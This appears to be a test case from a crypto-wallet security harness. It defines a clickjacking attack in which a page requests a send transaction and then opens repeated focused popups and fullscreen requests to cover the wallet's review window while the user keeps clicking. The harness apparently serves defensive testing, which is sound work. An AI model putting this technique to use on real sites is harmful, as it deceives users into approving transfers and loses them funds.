import type { Attack } from '../Attack.ts';

/** Windows of the page come over ours, and the person goes on clicking where the page's own button was. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'review window covered by windows of the page while the person clicks on',
  discovers: true,
  alone: true,
  script: `
const wallet = await kit.wallet();
wallet.request(kit.send()).catch(() => undefined);
for (let count = 0; count < 6; count += 1) {
  const cover = open('/blank.html', 'cover' + (count % 2), 'popup,width=460,height=720,left=0,top=0');
  cover?.moveTo(0, 0);
  cover?.focus();
  document.documentElement.requestFullscreen?.().catch(() => undefined);
  await kit.sleep(150);
}
`,
  drive: async ({ outside }) => outside.clickOn(),
};
